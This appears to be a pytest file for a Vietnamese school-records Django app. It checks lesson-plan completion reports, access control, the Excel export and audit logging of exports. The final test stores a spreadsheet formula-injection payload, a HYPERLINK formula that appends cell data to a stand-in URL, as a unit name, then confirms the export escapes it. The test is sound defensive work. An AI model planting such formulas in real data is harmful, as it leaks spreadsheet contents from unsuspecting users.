"""Completion numbers are exact: the week of 08/09/2025 (W02), set up by hand in a small
province: the school (Tổ 1 with three teachers, Tổ 4-5 with one), a THCS school of the same
Phòng with one teacher, a school of the second Phòng with one teacher: each owes that week's
lesson plan."""

from __future__ import annotations

import datetime as dt
import io
import json
from typing import Any

import pytest
from openpyxl import load_workbook

from hoso.audit.models import AuditEntry
from hoso.org.models import Role, Unit, UnitKind
from hoso.records.completion import completion_matrix, completion_report
from hoso.records.models import DueItem
from hoso.records.periods import VN
from hoso.records.services.deadlines import due_items_generate
from tests.factories import UnitFactory, UserFactory, World, api_login, grant, login, province_world

pytestmark = [pytest.mark.django_db, pytest.mark.own_world]

START = dt.datetime(2025, 9, 8, tzinfo=VN)
END = dt.datetime(2025, 9, 9, tzinfo=VN)
NOW = dt.datetime(2025, 9, 10, tzinfo=VN)


@pytest.fixture
def world(settings: Any) -> World:
    """The province of the module docstring, with the due items of its three schools."""
    settings.HOSO_2FA_REQUIRED_ROLES = []  # leaders' pages without a phone at hand
    world = province_world("cp")
    thcs = world.units["thcs"]
    group = UnitFactory(code="cp-THCS-TOAN", name="Tổ Toán", kind=UnitKind.TO, parent=thcs)
    teacher = UserFactory(username="cp.thcs.giaovien")
    grant(teacher, Role.GV, group)
    schools = [world.units[key] for key in ("school", "thcs", "school2")]
    due_items_generate(school_year=world.year, schools=schools)
    return world


def person(world: World, key: str) -> Any:
    return world.people[key]


@pytest.fixture
def week2(world: World) -> None:
    items = DueItem.objects.filter(
        record_type__code="TT28.KHBD", period_key="W02", school=world.units["school"]
    )
    due = dt.datetime(2025, 9, 8, 7, tzinfo=VN)
    items.filter(owner=person(world, "giaovien")).update(submitted_at=due - dt.timedelta(hours=1))
    items.filter(owner=person(world, "giaovien2")).update(submitted_at=due + dt.timedelta(hours=1))


def _row(report: Any, label: str) -> dict[str, Any]:
    return next(r.as_dict() for r in report.rows if r.label == label)


def test_group_rows_are_people(world: World, week2: None) -> None:
    group = world.units["to"]
    report = completion_report(person(world, "totruong"), group, START, END, NOW)
    assert len(report.rows) == 3
    total = report.total.as_dict()
    assert (total["on_time"], total["late"], total["missing"], total["total"]) == (1, 1, 1, 3)
    assert (total["pct_submitted"], total["pct_on_time"]) == (66.7, 33.3)


def test_school_rolls_up_groups_and_the_phong_rolls_up_schools(world: World, week2: None) -> None:
    th1 = world.units["school"]
    school = completion_report(person(world, "hieutruong"), th1, START, END, NOW)
    assert [
        (r["label"], r["on_time"], r["late"], r["missing"])
        for r in (row.as_dict() for row in school.rows)
    ] == [
        ("Tổ 1", 1, 1, 1),
        ("Tổ 4-5", 0, 0, 1),
    ]
    phong = completion_report(person(world, "chuyenvien"), world.units["phong"], START, END, NOW)
    assert {r.label: (r.submitted, r.values["missing"]) for r in phong.rows} == {
        "Trường THCS thử": (0, 1),
        "Trường thử": (2, 2),
    }
    so = completion_report(person(world, "so"), world.units["so"], START, END, NOW)
    assert {r.label: r.owed for r in so.rows} == {
        "Phòng GDĐT thử": 5,
        "Phòng GDĐT thứ hai": 1,
    }


def test_matrix_shows_each_person_and_period(world: World, week2: None) -> None:
    matrix = completion_matrix(person(world, "hieutruong"), world.units["to"], START, END, NOW)
    assert [c[:2] for c in matrix.columns] == [("TT28.KHBD", "W02")]
    assert sorted(s for _, cells in matrix.rows for s in cells) == ["late", "missing", "on_time"]


@pytest.mark.parametrize("who", ["giaovien", "school2.hieutruong", "chuyenvien2"])
def test_units_the_caller_does_not_oversee_are_not_found(world: World, who: str) -> None:
    th1 = world.units["school"]
    assert login(person(world, who)).get(f"/ho-so/tinh-hinh-nop/?unit={th1.pk}").status_code == 404


def test_dashboard_page_api_and_excel_agree(world: World, week2: None) -> None:
    th1 = world.units["school"]
    query = f"unit={th1.pk}&from=08/09/2025&to=08/09/2025"
    specialist = person(world, "chuyenvien")
    page = login(specialist).get(f"/ho-so/tinh-hinh-nop/?{query}")
    assert page.status_code == 200
    assert "Tổ 4-5" in page.content.decode()
    data = api_login(specialist).get(f"/api/v1/completion/?{query}").json()
    assert (data["total"]["on_time"], data["total"]["late"], data["total"]["total"]) == (1, 1, 4)
    sheet = login(specialist).get(f"/ho-so/tinh-hinh-nop/xuat.xlsx?{query}")
    book = load_workbook(io.BytesIO(sheet.content))
    rows = list(book["Tổng hợp"].iter_rows(values_only=True))
    assert rows[-1][:4] == ("Trường thử", 1, 1, 2)
    assert book["Chi tiết"].max_row == 5  # header + 4 teachers


def test_the_completion_query_count_does_not_grow_with_people(
    world: World, django_assert_max_num_queries: Any
) -> None:
    so = world.units["so"]
    user = person(world, "so")
    with django_assert_max_num_queries(8):
        completion_report(
            user, so, START - dt.timedelta(days=300), END + dt.timedelta(days=300), NOW
        )


def test_every_excel_export_is_audited_as_an_export(world: World) -> None:
    th1 = world.units["school"]
    query = f"unit={th1.pk}&from=08/09/2025&to=14/09/2025"
    before = AuditEntry.objects.filter(action="records.completion.exported").count()

    response = login(person(world, "chuyenvien")).get(
        f"/ho-so/tinh-hinh-nop/xuat.xlsx?{query}", REMOTE_ADDR="10.1.2.3"
    )

    assert response.status_code == 200
    entries = AuditEntry.objects.filter(action="records.completion.exported")
    assert entries.count() == before + 1
    entry = entries.latest("seq")
    assert (entry.actor, entry.object_id, entry.unit_id, entry.ip) == (
        person(world, "chuyenvien"),
        str(th1.pk),
        th1.pk,
        "10.1.2.3",
    )
    assert json.loads(entry.data) == {
        "format": "xlsx",
        "unit": th1.pk,
        "from": "08/09/2025",
        "to": "14/09/2025",
        "rows": 2,
    }


def test_a_unit_name_typed_as_a_formula_stays_text_in_the_export(world: World) -> None:
    group = world.units["to"]
    Unit.objects.filter(pk=group.pk).update(name='=HYPERLINK("http://x/?"&A1,"Bấm")')
    th1 = world.units["school"]

    sheet = login(person(world, "hieutruong")).get(f"/ho-so/tinh-hinh-nop/xuat.xlsx?unit={th1.pk}")

    book = load_workbook(io.BytesIO(sheet.content))
    labels = [row[0] for row in book["Tổng hợp"].iter_rows(values_only=True)]
    assert '\'=HYPERLINK("http://x/?"&A1,"Bấm")' in labels
    assert not any(str(v).startswith("=") for v in labels if v)
